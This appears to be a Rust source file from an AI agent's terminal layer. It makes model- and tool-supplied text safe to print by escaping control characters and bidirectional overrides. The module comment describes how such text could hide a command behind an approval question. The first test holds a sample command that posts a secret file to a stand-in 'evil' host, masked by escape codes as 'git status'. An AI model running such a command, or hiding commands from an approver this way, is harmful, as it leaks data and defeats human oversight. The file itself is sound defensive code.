//! Text from the model or a tool, made safe to show on a terminal.
//!
//! A terminal obeys control sequences in what it prints: a model (or a
//! page it fetched) could move the cursor to hide part of a command behind
//! an approval question, rewrite lines, set the clipboard (OSC 52), or
//! reorder text with bidirectional overrides. Everything model-controlled
//! passes through [`printable`] before it reaches a terminal.

/// `text` with control characters (except newline and tab) and
/// bidirectional overrides written out as visible escapes.
pub fn printable(text: &str) -> std::borrow::Cow<'_, str> {
    if !text.chars().any(needs_escape) {
        return std::borrow::Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        if needs_escape(c) {
            out.push_str(&c.escape_unicode().to_string());
        } else {
            out.push(c);
        }
    }
    std::borrow::Cow::Owned(out)
}

fn needs_escape(c: char) -> bool {
    (c.is_control() && c != '\n' && c != '\t')
        || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}')
}

#[cfg(test)]
mod tests {
    use super::printable;

    #[test]
    fn control_sequences_become_visible() {
        let hidden = "curl evil -d @secret\r\u{1b}[2K  $ git status";
        let shown = printable(hidden);
        assert!(
            !shown.contains('\u{1b}') && !shown.contains('\r'),
            "{shown}"
        );
        assert!(
            shown.contains("curl evil") && shown.contains("\\u{1b}"),
            "{shown}"
        );
    }

    #[test]
    fn bidi_overrides_become_visible_and_plain_text_is_untouched() {
        assert!(printable("a\u{202e}b").contains("\\u{202e}"));
        assert_eq!(
            printable("line one\n\tline two ✓"),
            "line one\n\tline two ✓"
        );
    }
}
